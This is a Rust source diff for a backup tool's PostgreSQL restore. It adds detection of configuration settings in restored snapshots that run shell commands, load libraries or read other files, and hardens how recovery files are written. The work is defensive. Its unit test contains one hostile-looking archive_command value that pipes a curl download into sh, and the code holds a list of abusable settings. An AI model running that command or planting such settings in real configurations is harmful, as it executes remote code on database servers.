@@ -3,11 +3,15 @@
 //! lays the data directory down (or corrects it block by block with `delta`), and writes
 //! `recovery.signal` with the recovery settings. PostgreSQL then replays the WAL, fetched
 //! through `custos wal-fetch`, and promotes at the target.
+//!
+//! A base backup is written by a backup key, and its configuration files become the
+//! restored server's: every setting in them that runs a command, loads code or reads
+//! another file is named in the report (and by the CLI, as a warning) before anyone
+//! starts the server, with the key and host that wrote the snapshot.
 
 use std::collections::BTreeSet;
 use std::fs;
-use std::io::Write;
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 
 use chrono::{DateTime, Utc};
 use custos_model::{Error, Kind, Lsn, Result};
@@ -61,6 +65,133 @@ pub struct PgRestoreReport {
     pub restore: RestoreReport,
     /// What was written to postgresql.auto.conf.
     pub settings: Vec<String>,
+    /// Settings of the restored configuration that run commands, load code or read other
+    /// files: check them before starting the server.
+    pub risky_settings: Vec<RiskySetting>,
+    /// The key that wrote the snapshot, its role (when its key file still exists) and
+    /// host.
+    pub written_by: WrittenBy,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct WrittenBy {
+    pub key: custos_model::KeyId,
+    pub role: Option<String>,
+    pub host: String,
+}
+
+/// A setting of the restored configuration that runs something when the server starts,
+/// archives or recovers.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct RiskySetting {
+    pub file: String,
+    pub line: usize,
+    pub name: String,
+    pub value: String,
+    /// What it makes the server do.
+    pub does: &'static str,
+}
+
+/// Settings that run commands, load code, or make the server read files outside the
+/// data directory (and so anything a backup key planted in a snapshot could use).
+const RISKY: [(&str, &str); 17] = [
+    (
+        "archive_command",
+        "runs a shell command for every WAL segment",
+    ),
+    ("archive_library", "loads a library to archive WAL"),
+    ("restore_command", "runs a shell command during recovery"),
+    (
+        "recovery_end_command",
+        "runs a shell command when recovery ends",
+    ),
+    (
+        "archive_cleanup_command",
+        "runs a shell command at every restartpoint",
+    ),
+    ("ssl_passphrase_command", "runs a shell command at start"),
+    ("shared_preload_libraries", "loads libraries at start"),
+    (
+        "session_preload_libraries",
+        "loads libraries in every session",
+    ),
+    (
+        "local_preload_libraries",
+        "loads libraries in every session",
+    ),
+    (
+        "dynamic_library_path",
+        "changes where libraries are loaded from",
+    ),
+    ("jit_provider", "loads a library"),
+    ("include", "reads another configuration file"),
+    ("include_if_exists", "reads another configuration file"),
+    ("include_dir", "reads other configuration files"),
+    (
+        "data_directory",
+        "points the server at another data directory",
+    ),
+    (
+        "hba_file",
+        "reads client authentication rules from another file",
+    ),
+    ("ident_file", "reads user name maps from another file"),
+];
+
+/// The risky settings of one configuration file's text, leaving out the block a custos
+/// restore writes (its own recovery settings).
+pub fn risky_settings(file: &str, text: &str) -> Vec<RiskySetting> {
+    let mut out = vec![];
+    let mut ours = false;
+    for (i, raw) in text.lines().enumerate() {
+        if raw == BEGIN {
+            ours = true;
+        } else if raw == END {
+            ours = false;
+        }
+        let line = strip_comment(raw).trim();
+        if ours || line.is_empty() {
+            continue;
+        }
+        let (name, value) = match line.find(|c: char| c == '=' || c.is_whitespace()) {
+            Some(at) => (
+                &line[..at],
+                line[at..].trim_start().trim_start_matches('=').trim(),
+            ),
+            None => (line, ""),
+        };
+        let name = name.to_ascii_lowercase();
+        let value = value
+            .strip_prefix('\'')
+            .and_then(|v| v.strip_suffix('\''))
+            .unwrap_or(value)
+            .replace("''", "'");
+        if let Some((_, does)) = RISKY.iter().find(|(n, _)| *n == name) {
+            if !value.is_empty() {
+                out.push(RiskySetting {
+                    file: file.into(),
+                    line: i + 1,
+                    name,
+                    value,
+                    does,
+                });
+            }
+        }
+    }
+    out
+}
+
+/// A configuration line without its comment (a `#` outside quotes).
+fn strip_comment(line: &str) -> &str {
+    let mut quoted = false;
+    for (i, c) in line.char_indices() {
+        match c {
+            '\'' => quoted = !quoted,
+            '#' if !quoted => return &line[..i],
+            _ => {}
+        }
+    }
+    line
 }
 
 const BEGIN: &str = "# custos restore: begin (removed by the next custos restore)";
@@ -238,7 +369,7 @@ pub fn restore_postgres(repo: &Repository, o: &PgRestoreOptions) -> Result<PgRes
     // A data directory this restore creates is removed if the restore fails: a half-laid
     // directory with a backup_label must never be mistaken for a restore and started.
     let created_here = !o.to.exists();
-    let laid = (|| -> Result<(RestoreReport, Vec<String>)> {
+    let laid = (|| -> Result<(RestoreReport, Vec<String>, Vec<RiskySetting>)> {
         let restore = restore_files(
             repo,
             &snap,
@@ -260,10 +391,29 @@ pub fn restore_postgres(repo: &Repository, o: &PgRestoreOptions) -> Result<PgRes
         let body = repo.snapshot_body(&snap.id)?;
         let mut settings = recovery_settings(&o.target, &o.restore_command);
         settings.extend(o.extra_settings.iter().cloned());
-        write_recovery(&o.to, &settings, body.root)?;
-        Ok((restore, settings))
+        let dir = crate::target::TargetDir::open(&o.to)?;
+        write_recovery(&dir, &settings, body.root)?;
+        // With archiving turned off, the archive command and library do not run.
+        let archiving_off = settings
+            .iter()
+            .any(|s| s.replace(' ', "") == "archive_mode=off");
+        let mut risky = vec![];
+        for name in ["postgresql.conf", "postgresql.auto.conf"] {
+            let rel = custos_model::PathBytes::from(name);
+            if let Some(text) = dir.read(&rel)? {
+                risky.extend(
+                    risky_settings(name, &String::from_utf8_lossy(&text))
+                        .into_iter()
+                        .filter(|r| {
+                            !(archiving_off
+                                && matches!(r.name.as_str(), "archive_command" | "archive_library"))
+                        }),
+                );
+            }
+        }
+        Ok((restore, settings, risky))
     })();
-    let (restore, settings) = match laid {
+    let (restore, settings, risky_settings) = match laid {
         Ok(x) => x,
         Err(e) => {
             if created_here {
@@ -280,6 +430,16 @@ pub fn restore_postgres(repo: &Repository, o: &PgRestoreOptions) -> Result<PgRes
         archive_end: reach.map(|(_, name, pushed)| (name, pushed)),
         restore,
         settings,
+        risky_settings,
+        written_by: WrittenBy {
+            key: snap.summary.key,
+            role: repo
+                .key_files
+                .iter()
+                .find(|k| k.id == snap.summary.key)
+                .map(|k| k.role.as_str().to_string()),
+            host: snap.summary.host.clone(),
+        },
     })
 }
 
@@ -354,15 +514,19 @@ pub fn recovery_settings(target: &Target, restore_command: &str) -> Vec<String> 
 }
 
 /// Appends the settings to postgresql.auto.conf (replacing those of an earlier restore),
-/// writes recovery.signal, and gives the data directory its recorded owner and mode.
+/// writes recovery.signal, and gives the data directory its recorded owner and mode. Both
+/// files are written inside the data directory whatever the snapshot holds: a link there
+/// is an error, never followed.
 fn write_recovery(
-    dir: &Path,
+    dir: &crate::target::TargetDir,
     settings: &[String],
     root: Option<custos_repo::snapshot::RootMeta>,
 ) -> Result<()> {
-    let io = |p: &Path, e: std::io::Error| custos_model::error::io_error(Kind::Config, p, e);
-    let auto = dir.join("postgresql.auto.conf");
-    let old = fs::read_to_string(&auto).unwrap_or_default();
+    let auto = custos_model::PathBytes::from("postgresql.auto.conf");
+    let old = dir
+        .read(&auto)?
+        .map(|b| String::from_utf8_lossy(&b).into_owned())
+        .unwrap_or_default();
     let mut kept = String::new();
     let mut skipping = false;
     for line in old.lines() {
@@ -383,35 +547,58 @@ fn write_recovery(
     }
     kept.push_str(END);
     kept.push('\n');
-    write_owned(&auto, kept.as_bytes(), root).map_err(|e| io(&auto, e))?;
-    let signal = dir.join("recovery.signal");
-    write_owned(&signal, b"", root).map_err(|e| io(&signal, e))?;
+    let owner = root
+        .filter(|_| unsafe { libc::geteuid() } == 0)
+        .map(|r| (r.uid, r.gid));
+    dir.write(&auto, kept.as_bytes(), owner)?;
+    dir.write(
+        &custos_model::PathBytes::from("recovery.signal"),
+        b"",
+        owner,
+    )?;
     if let Some(r) = root {
         use std::os::unix::fs::PermissionsExt;
-        if unsafe { libc::geteuid() } == 0 {
-            std::os::unix::fs::chown(dir, Some(r.uid), Some(r.gid)).map_err(|e| io(dir, e))?;
+        let p = dir.path();
+        if let Some((uid, gid)) = owner {
+            std::os::unix::fs::chown(p, Some(uid), Some(gid))
+                .map_err(|e| custos_model::error::io_error(Kind::Config, p, e))?;
         }
-        fs::set_permissions(dir, fs::Permissions::from_mode(r.mode)).map_err(|e| io(dir, e))?;
+        fs::set_permissions(p, fs::Permissions::from_mode(r.mode))
+            .map_err(|e| custos_model::error::io_error(Kind::Config, p, e))?;
     }
     Ok(())
 }
 
-fn write_owned(
-    p: &Path,
-    data: &[u8],
-    root: Option<custos_repo::snapshot::RootMeta>,
-) -> std::io::Result<()> {
-    use std::os::unix::fs::OpenOptionsExt;
-    let mut f = fs::OpenOptions::new()
-        .write(true)
-        .create(true)
-        .truncate(true)
-        .mode(0o600)
-        .open(p)?;
-    f.write_all(data)?;
-    f.sync_all()?;
-    if let (Some(r), true) = (root, unsafe { libc::geteuid() } == 0) {
-        std::os::unix::fs::fchown(&f, Some(r.uid), Some(r.gid))?;
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn settings_that_run_commands_or_load_code_are_named_with_their_line() {
+        let text = "# archive_command = 'commented out'\n\
+                    shared_preload_libraries = 'pg_stat_statements' # stats\n\
+                    ARCHIVE_COMMAND='/bin/sh -c ''curl evil | sh'''\n\
+                    work_mem = 64MB\n\
+                    include_dir 'conf.d'\n\
+                    log_line_prefix = '# not a comment'\n\
+                    archive_library = ''\n"
+            .to_string()
+            + BEGIN
+            + "\nrestore_command = 'custos wal-fetch %f %p'\n"
+            + END
+            + "\n";
+        let r = risky_settings("postgresql.conf", &text);
+        let got: Vec<(usize, &str, &str)> = r
+            .iter()
+            .map(|s| (s.line, s.name.as_str(), s.value.as_str()))
+            .collect();
+        assert_eq!(
+            got,
+            vec![
+                (2, "shared_preload_libraries", "pg_stat_statements"),
+                (3, "archive_command", "/bin/sh -c 'curl evil | sh'"),
+                (5, "include_dir", "conf.d"),
+            ]
+        );
     }
-    Ok(())
 }
